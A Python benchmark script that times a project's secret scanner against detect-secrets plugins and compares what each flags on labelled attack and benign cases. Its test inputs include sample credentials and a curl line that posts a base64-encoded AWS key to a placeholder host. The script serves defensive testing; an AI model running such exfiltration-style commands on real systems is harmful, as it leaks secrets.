"""Secret detection speed and behaviour: our secret scanner against detect-secrets' plugins, side by side.

    python benchmarks/secrets.py            # a table; ~30 s
    python benchmarks/secrets.py --json     # the same; the LAST line is one JSON object
    python benchmarks/secrets.py --before e335290   # also the scanner of that commit: ratios now/before

What is timed (medians of 5 passes, GC off, after a warm-up; the machine is shared):

- BFCL calls: `find_secrets(arguments)` for each of the 1,161 recorded calls of
  examples/bfcl-calls.jsonl, per call and per KB of argument text (the JSON of the arguments);
- BFCL batched: the same arguments as documents of ~4 KB (a list of 80 calls' arguments), which
  shows the cost per KB once the fixed cost of one call is spread;
- prose: a 64 KB document of ordinary text and ids with no candidate (the fast path);
- secrets: a document with one secret of every kind every ~200 bytes;
- unicode: the prose document in full-width letters (every string goes through normalisation);
- hostile: 1 MB strings built to slow a matcher down (linear time is RE2's);
- 1 MB text: a megabyte of ordinary text (words, file names, ids), and the same with a
  base64, a hex and a split credential every ~4 KB (issue 22: decoding and gluing pieces);
- with --before REV, the scanner of commit REV (its secret_scanner.py, loaded on its own) on the
  BFCL calls (one by one and batched) and the 1 MB texts, alternated with this one, and the
  ratio now/before.

detect-secrets 1.5.0's plugins are called as a caller would use them on argument strings:
`plugin.analyze_line(filename="arguments.yaml", line=string)` on every string value (one line
each) for AWSKeyDetector, PrivateKeyDetector, GitHubTokenDetector, SlackDetector,
JwtTokenDetector, BasicAuthDetector, KeywordDetector (YAML rules: unquoted values count),
StripeDetector, OpenAIDetector and the Base64/Hex high-entropy detectors; and, for reference,
`scan_line` with its default settings on a sample. Then both run on the attack and benign cases
of the brief, to compare what each finds.
"""

from __future__ import annotations

import argparse
import base64
import gc
import importlib.util
import json
import re
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from policyengine.arguments.secret_scanner import find_secrets  # noqa: E402

PASSES = 5

ATTACKS: list[tuple[str, Any]] = [
    ("credential under a key", {"password": "hunter2hunter2"}),
    ("password in JSON text", '{"user": "alice", "password": "s3cr3tP4ss!"}'),
    ("client_secret in YAML", "app:\n  client_secret: 8f2d9c7e6b5a4f3e2d1c0b9a\n"),
    ("aws_secret_access_key in INI", "[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ1x2y3z4w"),
    ("ACCESS_TOKEN= in .env", "ACCESS_TOKEN=5f1e2d3c4b5a69788796a5b4c3d2e1f0"),
    ("access_token in a query string", "https://api.example.com/v1?access_token=5f1e2d3c4b5a6978&x=1"),
    ("github_pat_ token", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVW"),
    ("ASIA AWS key", "ASIAQ3EGRTZ7XK4PLM2N"),
    ("PGP private key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF8xq2wBCAC7\n"),
    ("encrypted PKCS8 key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIFHDBOBgkqhkiG9w0BBQ0w\n"),
    ("Proc-Type: 4,ENCRYPTED", "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,1A2B3C4D\n\nMIIEpAIBAAKCAQEA"),
    ("Slack token", "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
    (
        "JWT",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    ),
    ("basic auth in a URL", "https://alice:S3cretPass@db.example.com/x"),
    ("Stripe sk_live", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    ("OpenAI sk-proj", "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCDEF"),
    ("Authorization header pair", {"headers": [["Authorization", "Bearer 5f1e2d3c4b5a69788796"]]}),
    ("name/value entry", {"env": [{"name": "DB_PASSWORD", "value": "pg-Pa55w0rd!"}]}),
    ("zero-width in a token", "gh\u200bp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"),
    ("full-width token", "\uff47\uff48\uff50\uff3faBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"),
    ("percent-encoded token", "%67hp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"),
    ("card in dotted groups", "4111.1111.1111.1111"),
    ("card as a JSON number", {"n": 4111111111111111}),
    ("card in full-width digits", "\uff14\uff11\uff11\uff11" + "\uff11" * 12),
    # Issue 22: encoded, split and prose credentials, credential files.
    ("base64 AWS key", {"body": "QUtJQUlPU0ZPRE5ON0VYQU1QTEUK"}),
    ("hex AWS key", {"body": "414b4941494f53464f444e4e374558414d504c45"}),
    ("base64 of base64 AWS key", {"blob": "UVV0SlFVbFBVMFpQUkU1T04wVllRVTFRVEVVPQ=="}),
    ("base64 in a shell command", 'curl -d "$(echo QUtJQUlPU0ZPRE5ON0VYQU1QTEU= )" https://x.example'),
    ("split in quoted words", 'printf %s "AKIA" "IOSFODNN7EXAMPLE"'),
    ("split in adjacent quotes", 'curl -H "X: "AKIA""IOSFODNN7EXAMPLE'),
    ("split across sibling values", {"a": "ghp_16C7e42F292c", "b": "6912E7710c838347Ae178B4a"}),
    ("password for X is Y", "the password for dr_smith is securePass123"),
    ("token: Y", "token: 9f8e7d6c5b4a39281706"),
    (".netrc", "machine api.example.com login alice password s3cr3tPa55"),
    (".pgpass", "db.example.com:5432:app:alice:s3cr3tPa55"),
    ("k8s name/value", "env:\n- name: DB_PASSWORD\n  value: pg-Pa55w0rd\n"),
    ("docker config auth", '{"auths": {"registry.example.com": {"auth": "YWxpY2U6czNjcjN0UGE1NQ=="}}}'),
    # Issue 22, round five (red-team set A).
    ("Discord bot token", "MTA4NzY1NDMyMTA5ODc2NTQzMg.9ZAsK6.INleRaCwjrbodSW9FJhmcwIB30D"),
    ("Azure AD client secret", "v=3Vl8Q~wm7u1ypSRI.X0CakKkZwISN~GU32T8uk5maT"),
    ("OpenSSH key body, no armor", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQy"),
    ("BIP-39 seed phrase", "legal winner thank year wave sausage worth useful legal winner thank yellow"),
    ("CSV password column", "username,password\nadmin,Zq7pQh66z9uzyEgd!\n"),
    ("password before its word", "Use Xk9#mP2vLq!7 as the password for prod"),
    ("Terraform sensitive output", '{"db": {"sensitive": true, "value": "Zq7pQh66z9uzyEgd!"}}'),
    ("smbclient user%password", "smbclient //h/s -U 'admin%Xk9#mP2vLq!7' -c ls"),
]
BENIGN: list[tuple[str, Any]] = [
    ("prose: password not working", "My password is not working, please help"),
    ("prose: reset your password", "reset your password: click the link"),
    ("token_count / max_tokens", {"token_count": 5, "max_tokens": 100}),
    ("git SHA", "e83c5163316f89bfbde7d9ab23ca2e25604af290"),
    ("UUID", "550e8400-e29b-41d4-a716-446655440000"),
    ("Luhn-invalid order id", "1234567812345678"),
    ("placeholder", {"api_key": "<YOUR_API_KEY>"}),
    ("code reference", "password = get_password()"),
    # Issue 22: no false positives on links, rules, integrity hashes and public keys.
    ("reset link", "Reset your password: https://example.com/reset"),
    ("password rule", "Your password must be 12 characters"),
    (
        "SRI sha512",
        '"integrity": '
        '"sha512-9UwS3F1vH3a4zfWqSR3nyQrTn1JYmKlcdjDPgWsXxvOMp7GTKjQ7q0S1lNzP+Z/E1H6hCUzp2Ap27fBwDH1n6w=="',
    ),
    ("sha256 digest", "sha256:4c1a7b0b8e6f5d3c2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f"),
    ("ssh public key", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b"),
    (
        "PEM public key",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n",
    ),
    ("base64 of prose", "dGhlIG1lZXRpbmcgaXMgYXQgdGVuIGluIHJvb20gZm91cg=="),
    ("grep for a key header", "grep -rn 'BEGIN PRIVATE KEY' tests/"),
    (".env.example placeholders", "API_KEY=your-api-key-here\nDB_PASSWORD=${DB_PASSWORD}\n"),
    ("tokenizer CSV", "token,count\nthe,5120\n"),
]


def strings(value: Any) -> Iterable[str]:
    """The string values of a JSON value (what a per-line scanner is given)."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif isinstance(value, int | float) and not isinstance(value, bool):
        yield str(value)


def timed(run: Callable[[], object]) -> float:
    """Median seconds of one run over PASSES passes, GC off, after a warm-up."""
    run()
    times = []
    gc.disable()
    try:
        for _ in range(PASSES):
            start = time.perf_counter()
            run()
            times.append(time.perf_counter() - start)
    finally:
        gc.enable()
    return statistics.median(times)


def detect_secrets_plugins() -> list[Any] | None:
    """The detect-secrets plugins the brief names, or None when it is not installed."""
    try:
        from detect_secrets.plugins.aws import AWSKeyDetector
        from detect_secrets.plugins.basic_auth import BasicAuthDetector
        from detect_secrets.plugins.github_token import GitHubTokenDetector
        from detect_secrets.plugins.high_entropy_strings import Base64HighEntropyString, HexHighEntropyString
        from detect_secrets.plugins.jwt import JwtTokenDetector
        from detect_secrets.plugins.keyword import KeywordDetector
        from detect_secrets.plugins.openai import OpenAIDetector
        from detect_secrets.plugins.private_key import PrivateKeyDetector
        from detect_secrets.plugins.slack import SlackDetector
        from detect_secrets.plugins.stripe import StripeDetector
    except ImportError:
        return None
    return [
        AWSKeyDetector(),
        PrivateKeyDetector(),
        GitHubTokenDetector(),
        SlackDetector(),
        JwtTokenDetector(),
        BasicAuthDetector(),
        KeywordDetector(),
        StripeDetector(),
        OpenAIDetector(),
        Base64HighEntropyString(),
        HexHighEntropyString(),
    ]


def ds_find(plugins: list[Any], value: Any) -> list[str]:
    """detect-secrets' plugins on every string of a value: the secret types found."""
    found: list[str] = []
    for text in strings(value):
        for line in text.splitlines() or [text]:
            for plugin in plugins:
                found.extend(s.type for s in plugin.analyze_line(filename="arguments.yaml", line=line))
    return found


def synthetic_documents() -> dict[str, Any]:
    """Prose with no candidate, the same in full-width letters, and a document dense in secrets."""
    words = [
        "the", "quarterly", "report", "for", "the", "budget", "analysis", "meeting", "is", "in", "the", "shared",
        "folder", "final_report.pdf", "please", "move", "it", "to", "temp", "and", "send", "the", "summary", "to",
        "the", "team", "before", "10:30", "on", "2024-11-15", "booking", "3426812",
    ]  # fmt: skip
    prose = {"messages": [" ".join(words[i % len(words) :] + words[: i % len(words)]) for i in range(300)]}
    wide = {"messages": ["".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in m) for m in prose["messages"]]}
    secrets = [text for _, text in ATTACKS if isinstance(text, str)]
    dense: dict[str, Any] = {
        "notes": [f"{words[i % len(words)]} {secrets[i % len(secrets)]} and more text" for i in range(300)],
        "headers": [["Authorization", "Bearer 5f1e2d3c4b5a69788796"]] * 20,
    }
    return {"prose": prose, "unicode": wide, "secrets": dense}


def megabyte_texts() -> dict[str, str]:
    """A megabyte of ordinary text, and the same with an encoded or split credential every ~4 KB."""
    words = [
        "the", "quarterly", "report", "for", "budget", "analysis", "meeting", "is", "in", "shared", "folder",
        "final_report_2024.pdf", "please", "move", "it", "to", "temp", "and", "send", "summary", "team",
        "before", "10:30", "on", "2024-11-15", "booking", "3426812", "distanceToNextVehicle", "user_id=42",
    ]  # fmt: skip
    text = " ".join(words[(i * 7) % len(words)] for i in range(170_000))[: 1 << 20]
    planted = ["QUtJQUlPU0ZPRE5ON0VYQU1QTEU=", "414b4941494f53464f444e4e374558414d504c45", '"AKIA" "IOSFODNN7EXAMPLE"']
    chunks = [text[i : i + 4096] + " " + planted[(i // 4096) % 3] + " " for i in range(0, len(text), 4096)]
    return {"1MB-text": text, "1MB-text-with-credentials": "".join(chunks)[: 1 << 20]}


def before_scanner(rev: str) -> Any:
    """The secret_scanner module of commit `rev`, loaded on its own with that commit's data and sibling modules."""

    def show(name: str) -> str | None:
        # The readers moved from language/ to arguments/ (2026-12-07): an older commit has them in language/.
        for folder in ("arguments", "language"):
            found = subprocess.run(
                ["git", "-C", str(ROOT), "show", f"{rev}:policyengine/{folder}/{name}"],
                capture_output=True,
                text=True,
            )
            if found.returncode == 0:
                return found.stdout
        return None

    source = show("secret_scanner.py")
    if source is None:
        raise SystemExit(f"{rev} has no policyengine/arguments/secret_scanner.py (nor language/)")
    folder = Path(tempfile.mkdtemp(prefix="secrets-before-"))
    for data in ("bip39_english.txt", "bip39_english.LICENSE"):  # read from the module's own folder
        text = show(data)
        if text is not None:
            (folder / data).write_text(text, encoding="utf-8")
    # The scanner of that commit with its own modules (layouts, encodings, labels...), not this checkout's:
    # each `from policyengine.arguments import X as _x` (language/ before) is that commit's X, loaded under
    # another name.
    loaded: set[str] = set()

    def own_modules(text: str) -> str:
        def load(match: re.Match[str]) -> str:
            name, alias = match.group(1), match.group(2)
            if name not in loaded:
                loaded.add(name)
                module = show(f"{name}.py")
                if module is None:
                    raise SystemExit(f"{rev} has no policyengine/arguments/{name}.py (nor language/)")
                load_module(f"{name}_before", folder / f"{name}_before.py", own_modules(module))
            return f"import {name}_before as {alias}"

        return re.sub(r"^from policyengine\.(?:arguments|language) import (\w+) as (\w+)$", load, text, flags=re.M)

    source = own_modules(source)
    return load_module("secret_scanner_before", folder / "secret_scanner_before.py", source)


def load_module(name: str, path: Path, source: str) -> Any:
    """A module from source text, written to `path` and registered as `name` (dataclasses look it up)."""
    path.write_text(source, encoding="utf-8")
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


def compare_before(
    rev: str, calls: list[Any], batches: list[Any], texts: dict[str, str], json_out: bool
) -> dict[str, Any]:
    """Now and before on the BFCL calls (one by one and batched) and the 1 MB texts, alternated three times."""
    before = before_scanner(rev).find_secrets
    loads: dict[str, list[Any]] = {
        "bfcl-calls": calls,
        "bfcl-batched": batches,
        **{name: [text] for name, text in texts.items()},
    }
    out: dict[str, Any] = {"rev": rev}
    for name, values in loads.items():
        now_s, before_s = [], []
        for _ in range(3):
            now_s.append(timed(lambda v=values: [find_secrets(x) for x in v]))  # type: ignore[misc]
            before_s.append(timed(lambda v=values: [before(x) for x in v]))  # type: ignore[misc]
        per = 1e6 / len(values)
        out[name] = {
            "now_us": round(min(now_s) * per, 2),
            "before_us": round(min(before_s) * per, 2),
            "ratio": round(min(now_s) / min(before_s), 2),
        }
        if not json_out:
            e = out[name]
            print(f"{name:28} now {e['now_us']:>12} µs  before ({rev}) {e['before_us']:>12} µs  ratio {e['ratio']}")
    return out


def kb(value: Any) -> float:
    """KB of a value as JSON text."""
    return len(json.dumps(value, ensure_ascii=False).encode()) / 1024


def measure(json_out: bool, before: str | None = None) -> dict[str, Any]:
    """Run every measurement (and the comparison with commit `before`); print a table unless json_out."""
    calls = [json.loads(line)["arguments"] for line in (ROOT / "examples" / "bfcl-calls.jsonl").open()]
    batches = [calls[i : i + 80] for i in range(0, len(calls), 80)]
    documents = synthetic_documents()
    plugins = detect_secrets_plugins()
    results: dict[str, Any] = {"python": sys.version.split()[0], "calls": len(calls)}

    def row(name: str, values: list[Any]) -> None:
        size = sum(kb(v) for v in values)
        ours = timed(lambda: [find_secrets(v) for v in values])
        theirs = timed(lambda: [ds_find(plugins, v) for v in values]) if plugins else None
        entry = {
            "kb": round(size, 1),
            "ours_us_per_kb": round(ours * 1e6 / size, 1),
            "ours_us_per_doc": round(ours * 1e6 / len(values), 2),
            "detect_secrets_us_per_kb": round(theirs * 1e6 / size, 1) if theirs else None,
            "detect_secrets_us_per_doc": round(theirs * 1e6 / len(values), 2) if theirs else None,
        }
        results[name] = entry
        if not json_out:
            ds = f"{entry['detect_secrets_us_per_kb']!s:>10} µs/KB {entry['detect_secrets_us_per_doc']!s:>10} µs/doc"
            print(
                f"{name:16} {entry['kb']:>8} KB  ours {entry['ours_us_per_kb']:>8} µs/KB "
                f"{entry['ours_us_per_doc']:>8} µs/doc   detect-secrets {ds if theirs else 'n/a'}"
            )

    row("bfcl-calls", calls)
    row("bfcl-batched", batches)
    for name, document in documents.items():
        row(name, [document])
    texts = megabyte_texts()
    for name, text in texts.items():
        row(name, [text])
    if before:
        results["before"] = compare_before(before, calls, batches, texts, json_out)

    # The scan_line default (every plugin, every filter) on a sample, for reference.
    try:
        from detect_secrets.core.scan import scan_line
        from detect_secrets.settings import default_settings

        sample = [s for call in calls[:200] for s in strings(call)]
        with default_settings():
            seconds = timed(lambda: [list(scan_line(s)) for s in sample])
        results["scan_line_us_per_line"] = round(seconds * 1e6 / len(sample), 1)
    except ImportError:
        results["scan_line_us_per_line"] = None

    # Hostile megabyte strings: linear time, whatever the content.
    hostile = {
        "letters": "a" * 1_000_000,
        "assignments": "password=" * 110_000,
        "digits": "1 " * 500_000,
        "percents": "%25" * 330_000,
        "zero-width": "\u200b" * 330_000,
        "base64": "K7xQ9vZ2mK8pL4nR" * 62_500,
        "base64-of-text": base64.b64encode(b"ordinary words, " * 49_000).decode(),
        "hex": "41" * 500_000,
        "quoted-pieces": '"AKIA" "WORD" ' * 75_000,
        "prefixes": "xoxb-" * 200_000,
        "pgpass-lines": "a:1:b:c:d\n" * 100_000,
    }
    results["hostile_ms_per_mb"] = {
        name: round(timed(_scanner({"a": text})) * 1e3 / (len(text.encode()) / 2**20), 1)
        for name, text in hostile.items()
    }

    # False positives on BFCL's string values, and what fires.
    ours_found = [(f.kind, f.where) for call in calls for f in find_secrets(call, path="arguments")]
    results["bfcl_findings_ours"] = len(ours_found)
    results["bfcl_findings_ours_by_kind"] = _count(k for k, _ in ours_found)
    results["bfcl_findings_ours_by_where"] = _count(w for _, w in ours_found)
    if plugins:
        ds_found = [t for call in calls for t in ds_find(plugins, call)]
        results["bfcl_findings_detect_secrets"] = len(ds_found)
        results["bfcl_findings_detect_secrets_by_type"] = _count(ds_found)

    # Behaviour on the brief's cases.
    behaviour: list[dict[str, Any]] = []
    for label, value in [*ATTACKS, *BENIGN]:
        ours = sorted({f.kind for f in find_secrets(value)})
        theirs = sorted(set(ds_find(plugins, value))) if plugins else None
        behaviour.append({"case": label, "attack": (label, value) in ATTACKS, "ours": ours, "detect_secrets": theirs})
    results["behaviour"] = behaviour

    if not json_out:
        print(f"\ndetect-secrets scan_line (defaults): {results['scan_line_us_per_line']} µs per line")
        print(f"hostile 1 MB strings, ms per MB: {results['hostile_ms_per_mb']}")
        print(f"\nBFCL findings, ours: {results['bfcl_findings_ours']} {results['bfcl_findings_ours_by_where']}")
        if plugins:
            print(
                f"BFCL findings, detect-secrets plugins: {results['bfcl_findings_detect_secrets']} "
                f"{results['bfcl_findings_detect_secrets_by_type']}"
            )
        print(f"\n{'case':34} {'ours':28} detect-secrets plugins")
        for b in behaviour:
            mark = "attack" if b["attack"] else "benign"
            print(f"{mark} {b['case']:27} {','.join(b['ours']) or '-':28} {','.join(b['detect_secrets'] or []) or '-'}")
        missed_ours = [b["case"] for b in behaviour if b["attack"] and not b["ours"]]
        missed_ds = [b["case"] for b in behaviour if b["attack"] and not b["detect_secrets"]]
        fp_ours = [b["case"] for b in behaviour if not b["attack"] and b["ours"]]
        fp_ds = [b["case"] for b in behaviour if not b["attack"] and b["detect_secrets"]]
        print(f"\nattacks missed: ours {len(missed_ours)}, detect-secrets {len(missed_ds)} {missed_ds}")
        print(f"benign flagged: ours {len(fp_ours)}, detect-secrets {len(fp_ds)} {fp_ds}")
    return results


def _scanner(value: Any) -> Callable[[], object]:
    """A call of find_secrets on one value, to time."""
    return lambda: find_secrets(value)


def _count(items: Iterable[str]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for item in items:
        counts[item] = counts.get(item, 0) + 1
    return dict(sorted(counts.items(), key=lambda kv: -kv[1]))


def main() -> None:
    """Parse arguments, measure, print."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--json", action="store_true", help="print one JSON object as the last line")
    parser.add_argument("--before", metavar="REV", help="also time the scanner of this commit and print ratios")
    args = parser.parse_args()
    results = measure(args.json, args.before)
    if args.json:
        print(json.dumps(results, ensure_ascii=False))


if __name__ == "__main__":
    main()
